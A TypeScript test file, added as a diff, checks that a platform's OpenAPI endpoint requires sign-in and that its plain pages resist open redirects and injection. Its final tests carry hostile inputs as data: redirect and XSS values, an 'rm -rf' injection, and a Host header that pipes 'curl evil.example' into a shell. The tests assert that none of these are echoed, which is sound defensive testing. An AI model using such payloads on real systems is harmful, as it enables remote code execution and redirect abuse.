@@ -1,0 +1,142 @@
+import assert from 'node:assert/strict';
+import { after, test } from 'node:test';
+import { gunzipSync } from 'node:zlib';
+import { request } from 'node:http';
+import { testPlatform } from '../support/platform.ts';
+
+const platform = await testPlatform({ after });
+
+test('KRN-22 the list of operations is told to signed-in users only: nobody and a wrong key get 401 and nothing else', async () => {
+  for (const caller of [platform.anonymous, platform.byKey('not-a-key'), platform.byPassword('administrator', 'wrong')]) {
+    const answer = await caller.get('/api/openapi.json');
+    assert.equal(answer.status, 401);
+    assert.equal((answer.json()['Error'] as unknown as Record<string, unknown>)['Code'], 'NOT_SIGNED_IN');
+    assert.doesNotMatch(answer.text, /paths|operationId/);
+    assert.equal(answer.headers.get('cache-control'), 'no-store');
+  }
+});
+
+test('KRN-16 a browser without credentials is sent from the document to the sign-in page, a program without a User-Agent gets the Basic challenge', async () => {
+  const browser = await platform.anonymous.get('/api/openapi.json', { Accept: 'text/html,*/*;q=0.8' });
+  assert.equal(browser.status, 302);
+  assert.equal(browser.headers.get('location'), '/signin?returnTo=%2Fapi%2Fopenapi.json');
+  // fetch always sends a User-Agent; a bare request does not.
+  const challenge = await new Promise<string | undefined>((done, failed) => {
+    request(`${platform.url}/api/openapi.json`, (response) => {
+      response.resume();
+      done(response.headers['www-authenticate']);
+    }).on('error', failed).end();
+  });
+  assert.match(String(challenge), /^Basic realm=/);
+});
+
+test('KRN-22 any valid key or password gets the document, a partner\'s too, with a tag that saves sending it again', async () => {
+  const firm = await platform.firm('Sample Firm');
+  const first = await firm.caller.get('/api/openapi.json');
+  assert.equal(first.status, 200);
+  assert.match(first.headers.get('content-type') ?? '', /^application\/json/);
+  assert.match(first.headers.get('cache-control') ?? '', /private/);
+  assert.match(first.headers.get('vary') ?? '', /X-ApiKey/);
+  assert.equal(first.json()['openapi'], '3.1.1');
+  const tag = first.headers.get('etag') ?? '';
+  const again = await platform.byPassword('user of Sample Firm', 'password of user of Sample Firm').get('/api/openapi.json', { 'If-None-Match': tag });
+  assert.equal(again.status, 304);
+  assert.equal(again.text, '');
+  assert.equal((await platform.anonymous.get('/api/openapi.json', { 'If-None-Match': tag })).status, 401);
+});
+
+test('KRN-22 the document is compressed for who takes it', async () => {
+  const { key } = await platform.user('compressed', 'Read Only');
+  const get = (encoding: string): Promise<{ encoding: string | undefined; bytes: Buffer }> =>
+    new Promise((done, failed) => {
+      request(`${platform.url}/api/openapi.json`, { headers: { 'X-ApiKey': key, 'Accept-Encoding': encoding } }, (response) => {
+        const parts: Buffer[] = [];
+        response.on('data', (part: Buffer) => parts.push(part));
+        response.on('end', () => done({ encoding: response.headers['content-encoding'], bytes: Buffer.concat(parts) }));
+      }).on('error', failed).end();
+    });
+  const packed = await get('br, gzip');
+  const plain = await get('gzip;q=0, identity');
+  assert.equal(packed.encoding, 'gzip');
+  assert.equal(plain.encoding, undefined);
+  assert.deepEqual(gunzipSync(packed.bytes), plain.bytes);
+  assert.ok(packed.bytes.length * 5 < plain.bytes.length);
+});
+
+test('KRN-22 a changed setting that the document tells is in it at once, under another tag', async () => {
+  const before = await platform.admin.get('/api/openapi.json');
+  const saved = await platform.admin.post('/api/setting/save', { Setting: 'TimeZone', Value: 'Europe/Lisbon' });
+  assert.equal(saved.status, 200, saved.text);
+  const changed = await platform.admin.get('/api/openapi.json', { 'If-None-Match': before.headers.get('etag') ?? '' });
+  assert.equal(changed.status, 200);
+  assert.match(changed.text, /time zone, Europe\/Lisbon/);
+});
+
+test('the front page and the sign-in page are plain pages: a strict policy, no script, nothing from elsewhere, labels for what scrolls', async () => {
+  for (const path of ['/', '/signin']) {
+    const page = await platform.anonymous.get(path);
+    assert.equal(page.status, 200);
+    const policy = page.headers.get('content-security-policy') ?? '';
+    assert.match(policy, /default-src 'none'/);
+    assert.match(policy, /frame-ancestors 'none'/);
+    assert.doesNotMatch(policy, /unsafe|script|\*/);
+    assert.equal(page.headers.get('x-content-type-options'), 'nosniff');
+    assert.doesNotMatch(page.text, /<script|<style| style=| on\w+=|<form|<img|javascript:/i);
+    assert.match(page.text, /<html lang="en">/);
+    assert.match(page.text, /<title>[^<]+<\/title>/);
+    assert.equal(page.text.match(/<h1>/g)?.length, 1);
+    assert.match(page.text, /<main>/);
+    for (const scrolled of page.text.match(/<pre [^>]*>/g) ?? []) assert.match(scrolled, /tabindex="0" role="region" aria-label="[^"]+"/);
+    for (const [, address = ''] of page.text.matchAll(/(?:href|src)="([^"]*)"/g)) {
+      assert.match(address, /^\/(?!\/)/);
+      const status = (await platform.anonymous.get(address)).status;
+      assert.ok(status === 200 || (status === 401 && address === '/api/openapi.json'), `${address} ${status}`);
+    }
+  }
+  const style = await platform.anonymous.get('/style.css');
+  assert.match(style.headers.get('content-type') ?? '', /^text\/css/);
+  assert.match(style.text, /prefers-color-scheme: dark/);
+  assert.doesNotMatch(style.text, /@import|url\(/);
+  const head = await platform.anonymous.send('HEAD', '/');
+  assert.equal(head.status, 200);
+  assert.equal(head.text, '');
+});
+
+test('KRN-16 the sign-in page says honestly what there is, and the calls that it shows work as they stand', async () => {
+  const page = await platform.anonymous.get('/signin?returnTo=%2Fapi%2Fcontact%2Fsearch%3FLastName%3DRivera');
+  assert.match(page.text, /no form to sign in with yet/);
+  assert.match(page.text, /You asked for <code>\/api\/contact\/search<\/code>/);
+  assert.doesNotMatch(page.text, /Rivera/);
+  const shown = [...page.text.replaceAll('&#39;', "'").replaceAll('&quot;', '"').matchAll(/'(http:[^']+)'/g)].map((match) => match[1] ?? '');
+  assert.equal(shown.length, 3);
+  for (const address of shown) {
+    assert.ok(address.startsWith(`${platform.url}/`), address);
+    assert.equal((await platform.admin.get(address.slice(platform.url.length))).status, 200, address);
+  }
+});
+
+test('returnTo is never followed nor linked to, and nothing foreign that it carries is shown', async () => {
+  const hostile = ['https://evil.example/', '//evil.example/x', '/\\evil.example', '/\t/evil.example', 'javascript:alert(1)', '/x"><script>alert(1)</script>', "/api/x';rm -rf evil.example;'", 'evil.example', `/${'evil.example'.repeat(50)}`, '/%0d%0aLocation:%20https://evil.example'];
+  for (const address of hostile) {
+    for (const query of [`returnTo=${encodeURIComponent(address)}`, `returnTo=%2F&returnTo=${encodeURIComponent(address)}`]) {
+      const page = await platform.anonymous.get(`/signin?${query}`);
+      assert.equal(page.status, 200);
+      assert.equal(page.headers.get('location'), null);
+      assert.equal(page.headers.get('refresh'), null);
+      assert.doesNotMatch(page.text, /http-equiv|<script|rm -rf|alert\(/);
+      for (const [, link = ''] of page.text.matchAll(/href="([^"]*)"/g)) assert.doesNotMatch(link, /evil/);
+      assert.doesNotMatch(page.text, /evil/, address);
+    }
+  }
+});
+
+test('a host that is no plain one is not repeated on the pages', async () => {
+  const text = await new Promise<string>((done, failed) => {
+    request(`${platform.url}/`, { headers: { Host: "x';curl evil.example|sh;'" } }, (response) => {
+      let body = '';
+      response.on('data', (part: Buffer) => (body += part.toString()));
+      response.on('end', () => done(body));
+    }).on('error', failed).end();
+  });
+  assert.doesNotMatch(text, /evil/);
+});
